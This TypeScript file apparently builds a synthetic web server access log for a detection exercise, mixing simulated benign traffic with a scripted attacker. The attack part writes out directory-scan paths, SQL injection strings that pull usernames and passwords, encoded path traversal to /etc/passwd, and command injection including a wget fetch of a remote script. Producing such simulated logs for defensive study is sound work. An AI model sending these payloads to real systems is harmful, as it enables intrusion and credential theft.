/** The sample access.log: the same day on web1's site. */
import { seeded } from "../../agent/simulate/random.ts";
import {
  AccessLog,
  BOT,
  BROWSERS,
  CURL,
  NIKTO,
  OTHER_BOT,
  PAGES,
  visit,
} from "../../agent/simulate/web.ts";
import { inOrder } from "./order.ts";
import { ATTACKER, day, OFFICE, SCANNER, STORY } from "./story.ts";

function innocent(log: AccessLog) {
  const r = log.random;
  const [from, to] = [day("09 06:25:00"), day("10 06:25:00")];
  for (let t = from; t < to; t += 300_000) {
    log.write(t + 3000, "10.0.0.5", "GET /healthz HTTP/1.1", 200, 2, "kube-probe/1.31");
  }
  for (let hour = 0; hour < 24; hour++) {
    const start = from + hour * 3_600_000;
    const busy = hour >= 2 && hour <= 14;
    for (let i = busy ? r.int(9, 12) : r.int(2, 4); i > 0; i--) {
      const src = `192.168.${r.int(30, 33)}.${r.int(2, 250)}`;
      visit(log, start + r.int(0, 3_500_000), src, r.pick(BROWSERS));
    }
    // A school or an office of many people behind one address.
    if (busy) {
      for (let i = r.int(9, 13); i > 0; i--) {
        visit(log, start + r.int(0, 3_500_000), "192.0.2.200", r.pick(BROWSERS));
      }
    }
  }
  // Search engines follow links that are gone: fewer than ten of them in any five minutes.
  for (let t = from + 240_000, n = 0; t < to; t += r.int(70, 260) * 1000, n++) {
    const gone = n % 3 === 0;
    const url = gone ? `/archive/${2009 + n % 15}/post-${n}.html` : r.pick(PAGES);
    log.get(
      t,
      n % 2 ? "198.51.100.201" : "198.51.100.202",
      url,
      gone ? 404 : 200,
      n % 2 ? BOT : OTHER_BOT,
    );
    if (n % 20 === 0) log.get(t - 1000, "198.51.100.201", "/robots.txt", 200, BOT);
  }
  // A relative path in a referrer, and a page whose pictures are missing: one visitor, four misses.
  log.get(
    day("09 09:14:02"),
    "192.0.2.200",
    "/docs/getting-started",
    200,
    BROWSERS[1],
    "https://intranet.example.com/wiki/../../docs/index.html",
  );
  for (let i = 1; i <= 4; i++) {
    log.get(
      day("09 09:14:03"),
      "192.0.2.200",
      `/docs/img/step-${i}.png`,
      404,
      BROWSERS[1],
      "https://www.example.com/docs/getting-started",
    );
  }
  // The editor signs in to the back office: one challenge, then her name on every request.
  log.write(
    day("09 10:02:11"),
    OFFICE[0],
    "GET /backoffice/ HTTP/1.1",
    401,
    188,
    BROWSERS[0],
  );
  for (let i = 0; i < 14; i++) {
    log.write(
      day("09 10:02:15") + i * 41_000,
      OFFICE[0],
      i % 5 === 4
        ? `POST /backoffice/articles/${200 + i} HTTP/1.1`
        : `GET /backoffice/articles/${200 + i} HTTP/1.1`,
      i % 5 === 4 ? 302 : 200,
      r.int(900, 9000),
      BROWSERS[0],
      "https://www.example.com/backoffice/",
      "alice",
    );
  }
}

const WORDS =
  ("admin backup config db old test tmp dev staging cgi-bin phpmyadmin wp-login.php setup.php install.php " +
    "shell.php upload console manager/html solr jenkins server-status api/v1/users actuator web.config .htaccess " +
    "CHANGELOG.txt readme.html xmlrpc.php dump.sql backup.zip site.tar.gz").split(" ");

function attack(log: AccessLog) {
  const r = log.random;
  let t = STORY.webScan;
  for (const word of WORDS) {
    const refused = word === "server-status" || word === ".htaccess" || word === "admin";
    log.get(t, ATTACKER, `/${word}`, refused ? 403 : 404, NIKTO);
    t += r.int(1, 3) * 1000;
  }
  log.get(t, ATTACKER, "/.git/config", 404, NIKTO);
  log.get(t + 1000, ATTACKER, "/.env", 200, NIKTO);

  t = STORY.sqlInjection;
  for (
    const [url, status] of [
      ["/products?id=17%27", 500],
      ["/products?id=17%27%20OR%20%271%27=%271", 403],
      ["/products?id=17+UnIoN+SeLeCt+1,2,3--", 403],
      ["/products?id=17/**/UNION/**/SELECT/**/null,null,null--", 500],
      ["/products?id=17%2520union%2520select%2520user,password%2520from%2520users--", 200],
      ["/products?id=17;waitfor%20delay%20%270:0:5%27--", 500],
    ] as const
  ) {
    log.get(t, ATTACKER, url, status, BROWSERS[1]);
    t += r.int(9, 25) * 1000;
  }

  t = STORY.traversal;
  for (
    const [url, status] of [
      ["/download?file=../../../../etc/passwd", 403],
      ["/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 403],
      ["/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 400],
      ["/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", 200],
      ["/download?file=..%5c..%5c..%5cwindows%5cwin.ini", 404],
    ] as const
  ) {
    log.get(t, ATTACKER, url, status, CURL);
    t += r.int(8, 20) * 1000;
  }

  t = STORY.commandInjection;
  for (
    const [url, status] of [
      ["/tools/ping?host=127.0.0.1;id", 500],
      ["/tools/ping?host=127.0.0.1%3Bcat%20/etc/hostname", 200],
      ["/tools/ping?host=%60whoami%60", 500],
      ["/tools/ping?host=127.0.0.1%7Cwget%20http://203.0.113.66/x.sh", 200],
    ] as const
  ) {
    log.get(t, ATTACKER, url, status, CURL);
    t += r.int(8, 20) * 1000;
  }
  // One broken request of the same tool: not HTTP at all.
  log.write(t + 2000, ATTACKER, "\\x16\\x03\\x01\\x02\\x00", 400, 157, "-");

  // The third source: a wordlist and a browser's name, nothing else.
  t = STORY.otherScan;
  for (let i = 0; i < 60; i++) {
    log.get(
      t,
      SCANNER,
      `/${r.pick(WORDS)}/${r.pick(["index.php", "login", "x", "old", "v2"])}${i}`,
      404,
      BROWSERS[2],
    );
    t += r.int(1, 4) * 1000;
  }
}

/** The text of access.log. */
export function accessLog(): string {
  return inOrder((emit) => {
    const log = new AccessLog(seeded(20260310), emit);
    innocent(log);
    attack(log);
  });
}
